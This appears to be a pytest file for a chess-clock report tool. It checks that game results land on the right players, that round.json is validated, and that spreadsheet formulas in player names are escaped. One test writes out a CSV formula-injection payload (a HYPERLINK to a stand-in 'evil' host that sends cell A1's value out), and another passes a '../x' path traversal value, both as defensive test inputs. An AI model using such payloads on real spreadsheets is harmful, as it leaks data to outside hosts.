"""A result is never put on the wrong players, and the report's inputs are checked.

A pull takes a clock's whole log, so a round's folder holds the clock's earlier games too, and after
a clock was swapped a board's folder may hold two clocks' logs. Only the board's round game, its
clock's last game, carries the pairing's players (in the table, the CSV, round.trf and the PGN);
the others are listed without players, and two clocks' logs for one board with no word from the
hall on which is the board's are refused rather than guessed. round.json (the hall's) is read
strictly, and a name a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil

import pytest
from trfkit import read_trf

from sagat.cli import main
from sagat.log.flash import read_image


def _log(folder, games):
    """A clock's log of `games` [(first, presses, result or None)], played by the sim in virtual time."""
    lines, t = [], 0
    for first, presses, result in games:
        lines += [{"at": t, "do": "new", "tc": "300", "first": first}, {"at": t, "do": "start"}]
        side = first
        for _ in range(presses):
            t += 1500
            lines.append({"at": t, "do": "press", "side": side})
            side = "right" if side == "left" else "left"
        t += 1000
        lines.append({"at": t, "do": "result", "result": result} if result else {"at": t, "do": "pause"})
        t += 1000
    os.makedirs(folder)
    script = os.path.join(folder, "s.jsonl")
    with open(script, "w", encoding="utf-8") as fh:
        fh.write("".join(json.dumps(x) + "\n" for x in lines))
    flash = os.path.join(folder, "f.img")
    assert main(["sim", "--script", script, "--virtual", "--flash", flash]) == 0
    with open(os.path.join(folder, "records.bin"), "wb") as fh:
        for _n, data in read_image(flash):
            fh.write(data)
    os.remove(flash)
    os.remove(script)


@pytest.fixture(scope="module")
def clocks(tmp_path_factory):
    """Clock aaa: round 1's game (left first, 1-0), then round 2's (right first, paused, no result yet);
    clock zzz: one game, a +/- (another clock's, put on board 3 by a swap)."""
    root = tmp_path_factory.mktemp("clocks")
    _log(str(root / "aaa"), [("left", 4, "1-0"), ("right", 3, None)])
    _log(str(root / "zzz"), [("left", 2, "+/-")])
    return root


def _pairs(tmp_path, text="3,Alice,Bob\n"):
    path = tmp_path / "pairs.csv"
    path.write_text(text, encoding="utf-8")
    return str(path)


def test_only_the_boards_round_game_carries_its_players(clocks, tmp_path, capsys):
    logs_dir = tmp_path / "round-2"
    shutil.copytree(clocks / "aaa", logs_dir / "board-03-aaa")
    out = tmp_path / "report"
    assert main(["report", str(logs_dir), "--pairings", _pairs(tmp_path), "--round", "2", "--out", str(out)]) == 0
    _tags, players = read_trf((out / "round.trf").read_bytes().decode("utf-8"))
    byname = {p["name"]: p for p in players.values()}
    # the round's game: right first (Bob White), no result yet: paired, no result; never round 1's 1-0
    assert byname["Bob"]["rounds"][1][1:] == ("w", " ") and byname["Alice"]["rounds"][1][1:] == ("b", " ")
    rows = list(csv.DictReader(io.StringIO((out / "round.csv").read_text(encoding="utf-8"))))
    assert [(r["game"], r["left"], r["result"]) for r in rows] == [("1", "", "1-0"), ("2", "Alice", "")], rows
    old = (out / "board-03-aaa-game-1.pgn").read_text(encoding="utf-8")
    assert '[White "?"]' in old and '[Round "?"]' in old and "Alice" not in old
    now = (out / "board-03-aaa-game-2.pgn").read_text(encoding="utf-8")
    assert '[White "Bob"]' in now and '[Round "2"]' in now
    assert "an earlier game of its clock" in (out / "index.html").read_text(encoding="utf-8")


def test_two_clocks_logs_for_one_board_are_refused_unless_the_hall_named_its_clock(clocks, tmp_path, capsys):
    logs_dir = tmp_path / "round-2"
    shutil.copytree(clocks / "aaa", logs_dir / "board-03-aaa")
    shutil.copytree(clocks / "zzz", logs_dir / "board-03-zzz")
    out = tmp_path / "report"
    assert main(["report", str(logs_dir), "--pairings", _pairs(tmp_path), "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert "board 3: these folders hold the logs of 2 clocks (aaa, zzz)" in err and len(err.strip().splitlines()) == 1
    # the hall's round.json names the board's clock: its game is the round's, the other is no one's
    (logs_dir / "round.json").write_text(json.dumps({"round": 2, "pairings": {"3": ["Alice", "Bob"]},
                                                     "clocks": {"3": "zzz"}}), encoding="utf-8")
    assert main(["report", str(logs_dir), "--out", str(out)]) == 0
    rows = list(csv.DictReader(io.StringIO((out / "round.csv").read_text(encoding="utf-8"))))
    named = [(r["clock"], r["game"], r["left"], r["result"]) for r in rows]
    assert ("zzz", "1", "Alice", "+/-") in named and all(c != "aaa" or left == "" for c, _g, left, _r in named), named
    _tags, players = read_trf((out / "round.trf").read_bytes().decode("utf-8"))
    assert {p["name"]: p["rounds"][1][2] for p in players.values()} == {"Alice": "+", "Bob": "-"}


@pytest.mark.parametrize("info, why", [
    ({"round": "abc"}, "its round is not a round number 1..999"),
    ({"round": [1]}, "its round is not a round number 1..999"),
    ({"round": 1.5}, "its round is not a round number 1..999"),
    ({"round": 0}, "its round is not a round number 1..999"),
    ({"date": [2025]}, "its date is not YYYY-MM-DD"),
    ({"date": "not a date"}, "its date is not YYYY-MM-DD"),
    ({"date": "2026-02-30"}, "its date is not YYYY-MM-DD"),
    ({"event": ["x"]}, "its event is not a text"),
    ({"pairings": {"3": "AB"}}, "board 3's are not [left, right]"),
    ({"pairings": {"3": ["A", "B", "C"]}}, "board 3's are not [left, right]"),
    ({"pairings": {"3": [None, None]}}, "board 3's are not [left, right]"),
    ({"pairings": {"03": ["A", "B"]}}, "'03' is not a board number"),
    ({"pairings": {"\u0663": ["A", "B"]}}, "is not a board number"),
    ({"pairings": ["A", "B"]}, "its pairings are not board: [left, right]"),
    ({"clocks": {"3": "../x"}}, "board 3's is not a clock's uid"),
])
def test_a_bad_round_json_is_one_clear_line(clocks, tmp_path, capsys, info, why):
    logs_dir = tmp_path / "round"
    shutil.copytree(clocks / "aaa", logs_dir / "board-03-aaa")
    (logs_dir / "round.json").write_text(json.dumps(info), encoding="utf-8")
    assert main(["report", str(logs_dir), "--out", str(tmp_path / "out")]) == 2
    err = capsys.readouterr().err
    assert why in err and "internal error" not in err and len(err.strip().splitlines()) == 1, err


def test_a_bad_date_or_round_on_the_command_line_is_refused(clocks, tmp_path, capsys):
    for flag, value in (("--date", "<b>d</b>"), ("--date", "2026-13-01"), ("--round", "0")):
        assert main(["report", str(clocks / "aaa"), flag, value, "--out", str(tmp_path / "o")]) == 2
        err = capsys.readouterr().err
        assert flag in err and len(err.strip().splitlines()) == 1, err


def test_a_name_a_spreadsheet_would_run_is_written_as_text(clocks, tmp_path):
    logs_dir = tmp_path / "round"
    shutil.copytree(clocks / "aaa", logs_dir / "board-03-aaa")
    evil = '=HYPERLINK("http://evil/?"&A1,"x")'
    pairs = _pairs(tmp_path, f'3,"{evil.replace(chr(34), chr(34) * 2)}",@SUM(1)\n')
    out = tmp_path / "report"
    assert main(["report", str(logs_dir), "--pairings", pairs, "--out", str(out)]) == 0
    row = [r for r in csv.DictReader(io.StringIO((out / "round.csv").read_text(encoding="utf-8"))) if r["left"]][0]
    assert row["left"] == "'" + evil and row["right"] == "'@SUM(1)"
